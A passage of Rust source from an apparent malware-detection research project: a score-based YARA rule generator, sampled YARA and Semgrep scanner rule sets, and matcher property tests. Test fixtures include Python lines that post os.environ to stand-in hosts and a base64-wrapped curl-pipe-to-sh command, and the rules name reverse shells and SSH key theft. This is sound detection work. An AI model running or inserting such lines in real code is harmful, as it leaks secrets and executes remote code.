        "rule {name} {{\n    meta:\n        description = \"score-based signature\"\n        author = \"score-baseline\"\n    strings:\n"
    );
    for (i, s) in strings.iter().enumerate() {
        let escaped = s
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', "\\n")
            .replace('\t', "\\t");
        out.push_str(&format!("        $s{i} = \"{escaped}\"\n"));
    }
    out.push_str("    condition:\n        any of them\n}\n");
    out
}

/// End-to-end score-based generation: clusters both corpora, pairs each
/// malware group against a legitimate group, and emits one rule per
/// malware group from the above-threshold strings.
pub fn generate_rules(malware: &[&Package], legit: &[&Package], seed: u64) -> Vec<String> {
    if malware.is_empty() {
        return Vec::new();
    }
    let embedder = embedding::Embedder::default();
    let mal_codes: Vec<String> = malware.iter().map(|p| p.combined_source()).collect();
    let legit_codes: Vec<String> = legit.iter().map(|p| p.combined_source()).collect();
    let mal_vecs: Vec<Vec<f32>> = mal_codes
        .iter()
        .map(|c| embedder.embed_source(c).mean)
        .collect();
    let k = (malware.len() / 8).max(1);
    let groups = cluster::group_with_threshold(&mal_vecs, k, cluster::PAPER_SIMILARITY_THRESHOLD)
        .unwrap_or_default();

    let legit_refs: Vec<&str> = legit_codes.iter().map(String::as_str).collect();
    let mut rules = Vec::new();
    for (gi, group) in groups.iter().enumerate() {
        let codes: Vec<&str> = group.iter().map(|&i| mal_codes[i].as_str()).collect();
        let scored = score_group(&codes, &legit_refs, seed ^ gi as u64);
        let selected: Vec<&str> = scored
            .iter()
            .filter(|s| s.blended() >= THRESHOLD)
            .take(8)
            .map(|s| s.text.as_str())
            .collect();
        // Fall back to the top-2 candidates when the threshold selects
        // nothing (the template always emits a rule per group, as the
        // original score-based tools do).
        let mut selected = if selected.is_empty() {
            scored.iter().take(2).map(|s| s.text.as_str()).collect()
        } else {
            selected
        };
        // Single-repair pass: when the scored ordering leaves a group
        // member with no string of its own (near-identical candidates can
        // land either side of the threshold on iforest noise alone), add
        // the first uncovered member's best-scoring candidate. Bounded to
        // one repair so the baseline keeps its characteristic
        // under-coverage on larger groups — coverage completion is
        // RuleLLM's job, not this baseline's.
        let mut repairs = 0;
        for code in &codes {
            if repairs >= 1 {
                break;
            }
            if !selected.iter().any(|s| code.contains(s)) {
                if let Some(best) = scored.iter().find(|s| code.contains(s.text.as_str())) {
                    selected.push(best.text.as_str());
                    repairs += 1;
                }
            }
        }
        if selected.is_empty() {
            continue;
        }
        rules.push(rule_from_strings(&format!("score_based_g{gi}"), &selected));
    }
    rules
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};

    fn pkg(name: &str, code: &str) -> Package {
        Package::new(
            PackageMetadata::new(name, "1.0"),
            vec![SourceFile::new(format!("{name}/m.py"), code)],
            Ecosystem::PyPi,
        )
    }

    #[test]
    fn candidates_include_strings_and_imports_not_calls() {
        let code = "import socket\nrequests.post('https://zorbex.xyz/c', data=x)\n";
        let cands = candidate_strings(code);
        assert!(cands.iter().any(|c| c == "https://zorbex.xyz/c"));
        assert!(cands.iter().any(|c| c == "socket"));
        // Call paths are deliberately excluded (binary-style strings only).
        assert!(!cands.iter().any(|c| c == "requests.post"));
    }

    #[test]
    fn short_candidates_filtered() {
        let cands = candidate_strings("x = 'ab'\n");
        assert!(cands.is_empty());
    }

    #[test]
    fn malicious_url_outscores_common_boilerplate() {
        let mal =
            ["requests.post('https://zorbex.xyz/collect', json=dict(os.environ))\nimport os\n"];
        let legit = ["import os\nprint('hello')\n", "import os\nimport json\n"];
        let scored = score_group(&mal, &legit, 1);
        let url = scored
            .iter()
            .find(|s| s.text.contains("zorbex"))
            .expect("url candidate");
        let common = scored.iter().find(|s| s.text == "os");
        if let Some(common) = common {
            assert!(url.blended() > common.blended());
        }
        assert!(url.blended() > 0.5, "{}", url.blended());
    }

    #[test]
    fn rule_template_compiles() {
        let rule = rule_from_strings("score_based_g0", &["https://evil.example/x", "os.system"]);
        assert!(yara_engine::compile(&rule).is_ok(), "{rule}");
    }

    #[test]
    fn generate_rules_end_to_end() {
        let m1 = pkg(
            "m1",
            "import os, requests\nrequests.post('https://zorbex.xyz/c', data=dict(os.environ))\n",
        );
        let m2 = pkg(
            "m2",
            "import os, requests\nrequests.post('https://bexlum.top/c', data=dict(os.environ))\n",
        );
        let l1 = pkg("l1", "def add(a, b):\n    return a + b\n");
        let rules = generate_rules(&[&m1, &m2], &[&l1], 42);
        assert!(!rules.is_empty());
        for r in &rules {
            assert!(yara_engine::compile(r).is_ok(), "{r}");
        }
    }

    #[test]
    fn blended_weighting() {
        let s = ScoredString {
            text: "x".into(),
            iforest: 1.0,
            tfidf: 1.0,
            entropy: 1.0,
        };
        assert!((s.blended() - 1.0).abs() < 1e-9);
        let half = ScoredString {
            iforest: 1.0,
            tfidf: 0.0,
            entropy: 0.0,
            ..s
        };
        assert!((half.blended() - 1.2 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn empty_input_no_rules() {
        assert!(generate_rules(&[], &[], 1).is_empty());
    }
}

//! `rulellm-baselines` — the comparison systems of §V-A (Table VII).
//!
//! * [`scored`] — the score-based signature generator: candidate strings
//!   from clustered malware/legit groups, ranked by a weighted blend of
//!   isolation-forest anomaly score (×1.2), TF-IDF (×1.0) and Shannon
//!   entropy (×0.8); strings above the 0.9 threshold fill a YARA rule
//!   template.
//! * [`iforest`] — a from-scratch isolation forest used by the scorer.
//! * [`scanners`] — stand-ins for the SOTA Yara-scanner / Semgrep-scanner
//!   rule corpora: generic rules written for email/PE/webshell threats
//!   (which rarely fire on OSS malware — the paper's Table VIII recall
//!   story) plus the small OSS-specific subsets (Table XI's 46 / 334).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod iforest;
pub mod scanners;
pub mod scored;

//! SOTA scanner rule corpora (§V-A baseline 1, Table VII/XI).
//!
//! The real Yara-scanner ships 4,574 rules and the Semgrep-scanner 2,841,
//! written for email, cloud, mobile, APT and binary threats; only 46 / 334
//! target OSS packages. We cannot redistribute those corpora, so this
//! module carries a representative sample with the same *composition*:
//! a bulk of generic rules that never fire on PyPI source malware, a few
//! over-broad generic rules that do fire (on benign code too — the
//! paper's precision story), and a small OSS-specific subset.

/// Paper-reported corpus sizes, for the Table XI comparison row.
pub const PAPER_YARA_TOTAL: usize = 4574;
/// Paper-reported OSS-specific YARA rule count.
pub const PAPER_YARA_OSS: usize = 46;
/// Paper-reported Semgrep corpus size.
pub const PAPER_SEMGREP_TOTAL: usize = 2841;
/// Paper-reported OSS-specific Semgrep rule count.
pub const PAPER_SEMGREP_OSS: usize = 334;

/// Generic (non-OSS) YARA rules: PE droppers, phishing mail, webshells,
/// ransom notes — the corpus bulk that cannot fire on Python sdists.
pub fn yara_generic() -> Vec<&'static str> {
    vec![
        r#"rule pe_header { strings: $mz = "MZ" $pe = "PE\x00\x00" condition: $mz at 0 and $pe }"#,
        r#"rule upx_packed { strings: $a = "UPX0" $b = "UPX1" condition: all of them }"#,
        r#"rule phishing_mail { strings: $a = "X-Mailer:" $b = "verify your account" nocase condition: all of them }"#,
        r#"rule php_webshell { strings: $a = "<?php" $b = "shell_exec(" condition: all of them }"#,
        r#"rule asp_webshell { strings: $a = "<%eval request" nocase condition: $a }"#,
        r#"rule powershell_encoded { strings: $a = "powershell" nocase $b = "-EncodedCommand" nocase condition: all of them }"#,
        r#"rule office_macro { strings: $a = "Auto_Open" $b = "Shell(" condition: all of them }"#,
        r#"rule ransom_note { strings: $a = "your files have been encrypted" nocase condition: $a }"#,
        r#"rule mimikatz_artifacts { strings: $a = "sekurlsa::logonpasswords" condition: $a }"#,
        r#"rule cobalt_beacon_cfg { strings: $a = "\x2e\x2f\x2e\x2f\x2e\x2c" condition: $a at 0 }"#,
        r#"rule registry_run_key { strings: $a = "CurrentVersion\\Run" condition: $a }"#,
        r#"rule cmd_exe_dropper { strings: $a = "cmd.exe /c" nocase condition: $a }"#,
        r#"rule vbs_downloader { strings: $a = "WScript.Shell" condition: $a }"#,
        r#"rule elf_header { strings: $a = "\x7fELF" condition: $a at 0 }"#,
        r#"rule onion_service { strings: $a = /[a-z2-7]{16}\.onion/ condition: $a }"#,
        r#"rule miner_stratum { strings: $a = "stratum+tcp://" condition: $a }"#,
        r#"rule keylogger_hook { strings: $a = "SetWindowsHookEx" condition: $a }"#,
        r#"rule autoit_compiled { strings: $a = "AU3!EA06" condition: $a }"#,
        r#"rule js_obfuscated_eval { strings: $a = "eval(unescape(" condition: $a }"#,
        r#"rule apk_dex { strings: $a = "classes.dex" condition: $a }"#,
        r#"rule doc_exploit_rtf { strings: $a = "{\\rtf1" condition: $a at 0 }"#,
        r#"rule lnk_target { strings: $a = "\x4c\x00\x00\x00\x01\x14\x02\x00" condition: $a at 0 }"#,
        r#"rule email_attachment_double_ext { strings: $a = ".pdf.exe" nocase condition: $a }"#,
        r#"rule sql_injection_probe { strings: $a = "' OR '1'='1" condition: $a }"#,
        r#"rule suspicious_pdb { strings: $a = "\\Release\\stealer.pdb" condition: $a }"#,
    ]
}

/// Over-broad generic rules: these DO fire on Python source — both
/// malicious and benign — dragging the scanner's precision down exactly
/// as Table VIII reports (35.0% precision).
pub fn yara_overbroad() -> Vec<&'static str> {
    vec![
        // Table I's base64-blob rule: hits obfuscated payloads AND benign
        // data-URI helpers.
        r#"rule base64_blob { meta: description = "Base64 encoded blob" strings: $a = /([A-Za-z0-9+\/]{4}){10,}(==|=)?/ condition: $a }"#,
        r#"rule uses_subprocess { strings: $a = "import subprocess" condition: $a }"#,
        r#"rule uses_base64_module { strings: $a = "import base64" condition: $a }"#,
        r#"rule long_hex_string { strings: $a = /[0-9a-f]{48,}/ condition: $a }"#,
    ]
}

/// The OSS-specific YARA subset (the paper's 46 rules, sampled): written
/// for *known* OSS malware shapes, so they catch some families and miss
/// the rest (23.4% recall in Table VIII).
pub fn yara_oss() -> Vec<&'static str> {
    vec![
        r#"rule oss_exec_b64decode { strings: $a = "exec(base64.b64decode" condition: $a }"#,
        r#"rule oss_setup_install_hook { strings: $a = "setuptools.command.install" $b = "os.system" condition: all of them }"#,
        r#"rule oss_curl_pipe_sh { strings: $a = /curl -s https?:\/\/[\w.\/-]+ \| sh/ condition: $a }"#,
        r#"rule oss_reverse_shell_socket { strings: $a = "socket.socket(socket.AF_INET" $b = "subprocess" condition: all of them }"#,
        r#"rule oss_discord_webhook { strings: $a = "discord.com/api/webhooks" condition: $a }"#,
        r#"rule oss_crontab_persistence { strings: $a = "crontab -" condition: $a }"#,
        r#"rule oss_pip_conf_hijack { strings: $a = "pip.conf" $b = "index-url" condition: all of them }"#,
        r#"rule oss_w4sp_marker { strings: $a = "w4sp" nocase condition: $a }"#,
        r#"rule oss_ssh_key_theft { strings: $a = ".ssh/id_rsa" condition: $a }"#,
        r#"rule oss_eval_compile { strings: $a = "exec(compile(" condition: $a }"#,
    ]
}

/// The full simulated Yara-scanner corpus.
pub fn yara_corpus() -> String {
    let mut out = String::new();
    for r in yara_generic()
        .into_iter()
        .chain(yara_overbroad())
        .chain(yara_oss())
    {
        out.push_str(r);
        out.push_str("\n\n");
    }
    out
}

/// Generic Semgrep rules (cloud/web/config targets that cannot fire on
/// the corpus).
pub fn semgrep_generic() -> Vec<&'static str> {
    vec![
        "rules:\n  - id: generic-flask-debug\n    languages: [python]\n    message: \"flask debug\"\n    severity: WARNING\n    pattern: app.run(debug=True)\n",
        "rules:\n  - id: generic-yaml-load\n    languages: [python]\n    message: \"unsafe yaml\"\n    severity: WARNING\n    pattern: yaml.load($X)\n",
        "rules:\n  - id: generic-pickle-loads\n    languages: [python]\n    message: \"unsafe pickle\"\n    severity: WARNING\n    pattern: pickle.loads($X)\n",
        "rules:\n  - id: generic-md5\n    languages: [python]\n    message: \"weak hash\"\n    severity: INFO\n    pattern: hashlib.md5($X)\n",
        "rules:\n  - id: generic-tempfile-mktemp\n    languages: [python]\n    message: \"insecure tempfile\"\n    severity: WARNING\n    pattern: tempfile.mktemp(...)\n",
        "rules:\n  - id: generic-assert-in-prod\n    languages: [python]\n    message: \"assert statement\"\n    severity: INFO\n    pattern: assert_used($X)\n",
        "rules:\n  - id: generic-sql-format\n    languages: [python]\n    message: \"sql injection\"\n    severity: ERROR\n    pattern: cursor.execute($Q % $ARGS)\n",
        "rules:\n  - id: generic-requests-noverify\n    languages: [python]\n    message: \"tls verify disabled\"\n    severity: WARNING\n    pattern: requests.get($U, verify=False)\n",
        "rules:\n  - id: generic-jwt-none\n    languages: [python]\n    message: \"jwt none alg\"\n    severity: ERROR\n    pattern: jwt.decode($T, verify=False)\n",
        "rules:\n  - id: generic-paramiko-autoadd\n    languages: [python]\n    message: \"ssh autoadd\"\n    severity: WARNING\n    pattern: $C.set_missing_host_key_policy(...)\n",
    ]
}

/// The OSS-specific Semgrep subset (the paper's 334, sampled): code-shape
/// rules for known OSS malware idioms. Catches the families using exactly
/// those idioms (32.0% recall) with decent precision (70.9%) — plus one
/// over-broad rule that fires on benign developer tooling.
pub fn semgrep_oss() -> Vec<&'static str> {
    vec![
        "rules:\n  - id: oss-exec-b64\n    languages: [python]\n    message: \"exec of base64 payload\"\n    severity: ERROR\n    pattern: exec(base64.b64decode($X))\n",
        "rules:\n  - id: oss-popen-shell\n    languages: [python]\n    message: \"shell=True Popen\"\n    severity: WARNING\n    pattern: subprocess.Popen($CMD, shell=True, ...)\n",
        "rules:\n  - id: oss-setuid-root\n    languages: [python]\n    message: \"setuid(0)\"\n    severity: ERROR\n    pattern: os.setuid(0)\n",
        "rules:\n  - id: oss-screenshot-grab\n    languages: [python]\n    message: \"screen capture\"\n    severity: WARNING\n    pattern: ImageGrab.grab()\n",
        "rules:\n  - id: oss-virtualalloc\n    languages: [python]\n    message: \"shellcode allocation\"\n    severity: ERROR\n    pattern: ctypes.windll.kernel32.VirtualAlloc(...)\n",
        "rules:\n  - id: oss-socket-bind-backdoor\n    languages: [python]\n    message: \"bind shell\"\n    severity: ERROR\n    patterns:\n      - pattern: import socket\n      - pattern: $S.bind(...)\n",
        "rules:\n  - id: oss-urlretrieve-tmp\n    languages: [python]\n    message: \"download to tmp\"\n    severity: WARNING\n    pattern: urllib.request.urlretrieve(...)\n",
        "rules:\n  - id: oss-subprocess-output\n    languages: [python]\n    message: \"collects command output\"\n    severity: INFO\n    pattern: subprocess.check_output(...)\n",
        "rules:\n  - id: oss-run-git\n    languages: [python]\n    message: \"invokes git\"\n    severity: INFO\n    pattern: subprocess.run(...)\n",
        "rules:\n  - id: oss-environ-dict\n    languages: [python]\n    message: \"bulk environment read\"\n    severity: WARNING\n    pattern: dict(os.environ)\n",
    ]
}

/// The full simulated Semgrep-scanner corpus as one YAML document set.
pub fn semgrep_corpus() -> Vec<&'static str> {
    semgrep_generic().into_iter().chain(semgrep_oss()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn yara_corpus_compiles_as_one_ruleset() {
        let compiled = yara_engine::compile(&yara_corpus());
        assert!(compiled.is_ok(), "{:?}", compiled.err());
        assert!(compiled.expect("ok").len() >= 35);
    }

    #[test]
    fn semgrep_corpus_compiles() {
        for src in semgrep_corpus() {
            let compiled = semgrep_engine::compile(src);
            assert!(compiled.is_ok(), "{src}\n{:?}", compiled.err());
        }
    }

    #[test]
    fn generic_rules_do_not_fire_on_python_source() {
        let compiled = yara_engine::compile(&yara_generic().join("\n\n")).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let benign = b"import os\n\ndef main():\n    print('hello world')\n";
        assert!(!scanner.is_match(benign));
    }

    #[test]
    fn oss_rule_catches_b64_exec() {
        let compiled = yara_engine::compile(&yara_corpus()).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let payload = format!(
            "import base64\nexec(base64.b64decode('{}'))\n",
            digest::base64::encode(b"import os; os.system('curl https://x.example/s | sh')")
        );
        let hits = scanner.scan(payload.as_bytes());
        assert!(
            hits.iter().any(|h| h.rule == "oss_exec_b64decode"),
            "{hits:?}"
        );
    }

    #[test]
    fn overbroad_rule_fires_on_benign_data_uri_helper() {
        let compiled = yara_engine::compile(&yara_overbroad().join("\n\n")).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let benign = b"import base64\n\ndef data_uri(path):\n    return base64.b64encode(open(path, 'rb').read())\n";
        assert!(scanner.is_match(benign));
    }

    #[test]
    fn semgrep_oss_rule_matches_shape() {
        let rules = semgrep_engine::compile(semgrep_oss()[0]).expect("compile");
        let findings = semgrep_engine::scan_source(&rules, "exec(base64.b64decode(p))\n");
        assert_eq!(findings.len(), 1);
    }

    #[test]
    fn paper_counts_recorded() {
        assert_eq!(PAPER_YARA_TOTAL, 4574);
        assert_eq!(PAPER_YARA_OSS, 46);
        assert_eq!(PAPER_SEMGREP_TOTAL, 2841);
        assert_eq!(PAPER_SEMGREP_OSS, 334);
    }
}

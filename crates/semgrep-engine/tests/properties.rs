//! Property-based tests for the YAML parser and the pattern matcher,
//! plus the differential suite proving the compiled matchers equivalent
//! to the seed's reparse-per-call oracle on generated rule/corpus pairs.

use proptest::prelude::*;
use semgrep_engine::yaml::{self, Yaml};
use semgrep_engine::{Finding, MatchScratch, MatchSet};

/// A small shared name pool so generated rules and sources collide often
/// (high hit rate exercises the anchored dispatch, not just the skips).
const NAMES: &[&str] = &[
    "os", "get", "send", "foo", "bar", "run", "sh", "conn", "load", "x",
];

fn name() -> impl Strategy<Value = String> {
    prop::sample::select(NAMES).prop_map(str::to_owned)
}

/// One generated pattern string covering every anchor class: dotted
/// calls, bare calls, assignments, imports, from-imports, metavariable
/// receivers and fully-opaque (always-on) shapes.
fn pattern() -> impl Strategy<Value = String> {
    prop_oneof![
        (name(), name()).prop_map(|(m, f)| format!("{m}.{f}($A)")),
        (name(), name()).prop_map(|(m, f)| format!("{m}.{f}(...)")),
        name().prop_map(|f| format!("{f}(...)")),
        (name(), name()).prop_map(|(f, a)| format!("{f}({a}, ...)")),
        (name(), name()).prop_map(|(m, f)| format!("$V = {m}.{f}(...)")),
        name().prop_map(|m| format!("import {m}")),
        (name(), name()).prop_map(|(m, f)| format!("from {m} import {f}")),
        name().prop_map(|f| format!("$X.{f}($Y)")),
        name().prop_map(|f| format!("{f}('trusted')")),
        Just("$A($B)".to_owned()),
    ]
}

/// One generated rule body: plain pattern, either-of-two, or a
/// conjunction with a `pattern-not`.
#[derive(Debug, Clone)]
enum RuleSpec {
    One(String),
    Either(String, String),
    NotPair(String, String),
}

fn rule_spec() -> impl Strategy<Value = RuleSpec> {
    prop_oneof![
        pattern().prop_map(RuleSpec::One),
        (pattern(), pattern()).prop_map(|(a, b)| RuleSpec::Either(a, b)),
        (pattern(), pattern()).prop_map(|(a, b)| RuleSpec::NotPair(a, b)),
    ]
}

fn ruleset_yaml(specs: &[RuleSpec]) -> String {
    let mut out = String::from("rules:\n");
    for (i, spec) in specs.iter().enumerate() {
        out.push_str(&format!(
            "  - id: r{i}\n    languages: [python]\n    message: m\n"
        ));
        match spec {
            RuleSpec::One(p) => out.push_str(&format!("    pattern: {p}\n")),
            RuleSpec::Either(a, b) => out.push_str(&format!(
                "    pattern-either:\n      - pattern: {a}\n      - pattern: {b}\n"
            )),
            RuleSpec::NotPair(a, b) => out.push_str(&format!(
                "    patterns:\n      - pattern: {a}\n      - pattern-not: {b}\n"
            )),
        }
    }
    out
}

/// One generated source statement from the same name pool.
fn statement() -> impl Strategy<Value = String> {
    prop_oneof![
        (name(), name(), name()).prop_map(|(m, f, a)| format!("{m}.{f}({a})")),
        (name(), name()).prop_map(|(f, a)| format!("{f}({a})")),
        (name(), name()).prop_map(|(f, a)| format!("{f}({a}, {a})")),
        (name(), name(), name()).prop_map(|(v, m, f)| format!("{v} = {m}.{f}(payload)")),
        name().prop_map(|m| format!("import {m}")),
        (name(), name()).prop_map(|(m, f)| format!("import {m}, {f}")),
        (name(), name()).prop_map(|(m, f)| format!("from {m} import {f}")),
        (name(), name()).prop_map(|(f, a)| format!("def helper_{f}():\n    {f}({a})")),
        name().prop_map(|f| format!("{f}('trusted')")),
        Just("unrelated = 1".to_owned()),
    ]
}

fn pairs(findings: &[Finding]) -> Vec<(String, usize)> {
    findings
        .iter()
        .map(|f| (f.rule_id.clone(), f.line))
        .collect()
}

proptest! {
    #[test]
    fn yaml_parser_never_panics(src in "[ -~\\n]{0,300}") {
        let _ = yaml::parse(&src);
    }

    #[test]
    fn flat_mapping_roundtrips(
        entries in prop::collection::btree_map(
            "[a-z][a-z0-9]{0,8}",
            // Values must contain at least one non-space character, or the
            // entry legitimately parses as an empty (Null) value.
            "[a-zA-Z0-9._-][a-zA-Z0-9 ._-]{0,19}",
            1..6,
        ),
    ) {
        let mut src = String::new();
        for (k, v) in &entries {
            src.push_str(&format!("{k}: {v}\n"));
        }
        let doc = yaml::parse(&src).expect("well-formed mapping");
        for (k, v) in &entries {
            prop_assert_eq!(doc.get(k).and_then(Yaml::as_str), Some(v.trim()));
        }
    }

    #[test]
    fn sequence_roundtrips(items in prop::collection::vec("[a-zA-Z0-9._-]{1,16}", 1..8)) {
        let mut src = String::from("items:\n");
        for item in &items {
            src.push_str(&format!("  - {item}\n"));
        }
        let doc = yaml::parse(&src).expect("well-formed sequence");
        let seq = doc.get("items").and_then(Yaml::as_seq).expect("seq");
        prop_assert_eq!(seq.len(), items.len());
        for (y, item) in seq.iter().zip(&items) {
            prop_assert_eq!(y.as_str(), Some(item.as_str()));
        }
    }

    #[test]
    fn exact_call_pattern_is_an_oracle(
        func in "[a-z]{2,8}",
        arg in "[a-z]{1,8}",
        other in "[a-z]{2,8}",
    ) {
        prop_assume!(func != other);
        prop_assume!(!pysrc::is_keyword(&func) && !pysrc::is_keyword(&other));
        let rule_src = format!(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: {func}($X)\n"
        );
        let rules = semgrep_engine::compile(&rule_src).expect("compile");
        let hit = format!("{func}({arg})\n");
        let miss = format!("{other}({arg})\n");
        prop_assert_eq!(semgrep_engine::scan_source(&rules, &hit).len(), 1);
        prop_assert!(semgrep_engine::scan_source(&rules, &miss).is_empty());
    }

    #[test]
    fn metavariable_binds_any_single_argument(arg in "[a-z0-9_]{1,12}") {
        let rules = semgrep_engine::compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        )
        .expect("compile");
        let src = format!("eval({arg})\n");
        prop_assert_eq!(semgrep_engine::scan_source(&rules, &src).len(), 1);
        // Two arguments must not match a single-metavariable pattern.
        let two = format!("eval({arg}, {arg})\n");
        prop_assert!(semgrep_engine::scan_source(&rules, &two).is_empty());
    }

    #[test]
    fn ellipsis_matches_any_arity(n_args in 0usize..5) {
        let rules = semgrep_engine::compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: run(...)\n",
        )
        .expect("compile");
        let args: Vec<String> = (0..n_args).map(|i| format!("a{i}")).collect();
        let src = format!("run({})\n", args.join(", "));
        prop_assert_eq!(semgrep_engine::scan_source(&rules, &src).len(), 1);
    }

    #[test]
    fn match_module_set_equals_reference_oracle(
        specs in prop::collection::vec(rule_spec(), 1..7),
        stmts in prop::collection::vec(statement(), 0..16),
        mask in any::<u32>(),
    ) {
        let rules = semgrep_engine::compile(&ruleset_yaml(&specs)).expect("generated rules compile");
        let mut src = stmts.join("\n");
        src.push('\n');
        let module = pysrc::parse_module(&src);

        // The oracle: the seed's reparse-per-call matcher, rule by rule.
        let mut want = Vec::new();
        for rule in &rules.rules {
            want.extend(semgrep_engine::reference::match_module(rule, &module));
        }

        // Compiled per-rule matcher ≡ oracle.
        let mut per_rule = Vec::new();
        for rule in &rules.rules {
            per_rule.extend(semgrep_engine::match_module(rule, &module));
        }
        prop_assert_eq!(pairs(&per_rule), pairs(&want), "per-rule diverged on {:?}", src);

        // Single-pass multi-rule matcher ≡ oracle, and it never parses
        // pattern text.
        let set = MatchSet::new(&rules);
        let mut scratch = MatchScratch::new();
        let (got, metrics) = set.match_module_set(&module, |_| true, &mut scratch);
        prop_assert_eq!(pairs(&got), pairs(&want), "match_module_set diverged on {:?}", src);
        prop_assert_eq!(metrics.pattern_reparses, 0);

        // Routed subset ≡ filtered oracle (the hub's prefilter path),
        // reusing the scratch from the previous pass.
        let include = |ri: usize| mask & (1 << (ri % 32)) != 0;
        let (subset, _) = set.match_module_set(&module, include, &mut scratch);
        let masked: Vec<Finding> = rules
            .rules
            .iter()
            .enumerate()
            .filter(|(ri, _)| include(*ri))
            .flat_map(|(_, r)| semgrep_engine::reference::match_module(r, &module))
            .collect();
        prop_assert_eq!(pairs(&subset), pairs(&masked), "routed subset diverged on {:?}", src);
    }

    #[test]
    fn scan_module_equals_oracle_on_arbitrary_text(
        specs in prop::collection::vec(rule_spec(), 1..5),
        body in "[ -~\\n]{0,200}",
    ) {
        // Arbitrary printable garbage: the compiled matcher must agree
        // with the oracle even on sources that parse into Other/Block
        // fallback shapes.
        let rules = semgrep_engine::compile(&ruleset_yaml(&specs)).expect("compile");
        let module = pysrc::parse_module(&body);
        let mut want = Vec::new();
        for rule in &rules.rules {
            want.extend(semgrep_engine::reference::match_module(rule, &module));
        }
        let got = semgrep_engine::scan_module(&rules, &module);
        prop_assert_eq!(pairs(&got), pairs(&want), "diverged on {:?}", body);
    }

    #[test]
    fn finding_lines_point_at_real_statements(pad in 0usize..10) {
        let rules = semgrep_engine::compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: boom($X)\n",
        )
        .expect("compile");
        let mut src = String::new();
        for i in 0..pad {
            src.push_str(&format!("x{i} = {i}\n"));
        }
        src.push_str("boom(payload)\n");
        let findings = semgrep_engine::scan_source(&rules, &src);
        prop_assert_eq!(findings.len(), 1);
        prop_assert_eq!(findings[0].line, pad + 1);
    }
}

//! Property-based tests for the YAML parser and the pattern matcher.

use proptest::prelude::*;
use semgrep_engine::yaml::{self, Yaml};

proptest! {
    #[test]
    fn yaml_parser_never_panics(src in "[ -~\\n]{0,300}") {
        let _ = yaml::parse(&src);
    }

    #[test]
    fn flat_mapping_roundtrips(
        entries in prop::collection::btree_map(
            "[a-z][a-z0-9]{0,8}",
            // Values must contain at least one non-space character, or the
            // entry legitimately parses as an empty (Null) value.
            "[a-zA-Z0-9._-][a-zA-Z0-9 ._-]{0,19}",
            1..6,
        ),
    ) {
        let mut src = String::new();
        for (k, v) in &entries {
            src.push_str(&format!("{k}: {v}\n"));
        }
        let doc = yaml::parse(&src).expect("well-formed mapping");
        for (k, v) in &entries {
            prop_assert_eq!(doc.get(k).and_then(Yaml::as_str), Some(v.trim()));
        }
    }

    #[test]
    fn sequence_roundtrips(items in prop::collection::vec("[a-zA-Z0-9._-]{1,16}", 1..8)) {
        let mut src = String::from("items:\n");
        for item in &items {
            src.push_str(&format!("  - {item}\n"));
        }
        let doc = yaml::parse(&src).expect("well-formed sequence");
        let seq = doc.get("items").and_then(Yaml::as_seq).expect("seq");
        prop_assert_eq!(seq.len(), items.len());
        for (y, item) in seq.iter().zip(&items) {
            prop_assert_eq!(y.as_str(), Some(item.as_str()));
        }
    }

    #[test]
    fn exact_call_pattern_is_an_oracle(
        func in "[a-z]{2,8}",
        arg in "[a-z]{1,8}",
        other in "[a-z]{2,8}",
    ) {
        prop_assume!(func != other);
        prop_assume!(!pysrc::is_keyword(&func) && !pysrc::is_keyword(&other));
        let rule_src = format!(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: {func}($X)\n"
        );
        let rules = semgrep_engine::compile(&rule_src).expect("compile");
        let hit = format!("{func}({arg})\n");
        let miss = format!("{other}({arg})\n");
        prop_assert_eq!(semgrep_engine::scan_source(&rules, &hit).len(), 1);
        prop_assert!(semgrep_engine::scan_source(&rules, &miss).is_empty());
    }

    #[test]
    fn metavariable_binds_any_single_argument(arg in "[a-z0-9_]{1,12}") {
        let rules = semgrep_engine::compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        )
        .expect("compile");
        let src = format!("eval({arg})\n");
        prop_assert_eq!(semgrep_engine::scan_source(&rules, &src).len(), 1);
        // Two arguments must not match a single-metavariable pattern.
        let two = format!("eval({arg}, {arg})\n");
        prop_assert!(semgrep_engine::scan_source(&rules, &two).is_empty());
    }

    #[test]
    fn ellipsis_matches_any_arity(n_args in 0usize..5) {
        let rules = semgrep_engine::compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: run(...)\n",
        )
        .expect("compile");
        let args: Vec<String> = (0..n_args).map(|i| format!("a{i}")).collect();
        let src = format!("run({})\n", args.join(", "));
        prop_assert_eq!(semgrep_engine::scan_source(&rules, &src).len(), 1);
    }

    #[test]
    fn finding_lines_point_at_real_statements(pad in 0usize..10) {
        let rules = semgrep_engine::compile(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: boom($X)\n",
        )
        .expect("compile");
        let mut src = String::new();
        for i in 0..pad {
            src.push_str(&format!("x{i} = {i}\n"));
        }
        src.push_str("boom(payload)\n");
        let findings = semgrep_engine::scan_source(&rules, &src);
        prop_assert_eq!(findings.len(), 1);
        prop_assert_eq!(findings[0].line, pad + 1);
    }
}

//! The seed's reparse-per-call structural matcher, kept as the
//! differential oracle (repo convention, see `textmatch::reference`).
//!
//! [`match_module`] here re-encodes metavariables and re-parses every
//! pattern string through [`pysrc::parse_module`] on **every call** —
//! exactly the cost model the compiled matcher removed. The differential
//! suites assert `matcher ≡ reference` and the benchmarks use it as the
//! before-side of the speedup table. Every pattern-text re-parse bumps a
//! process-global counter ([`pattern_reparse_count`]) so tests can prove
//! the production scan path performs zero of them.

use std::sync::atomic::{AtomicU64, Ordering};

use pysrc::Module;

use crate::matcher::{encode_metavars, stmt_matches, walk_statements, Finding};
use crate::rule::{PatternOp, SemgrepRule};

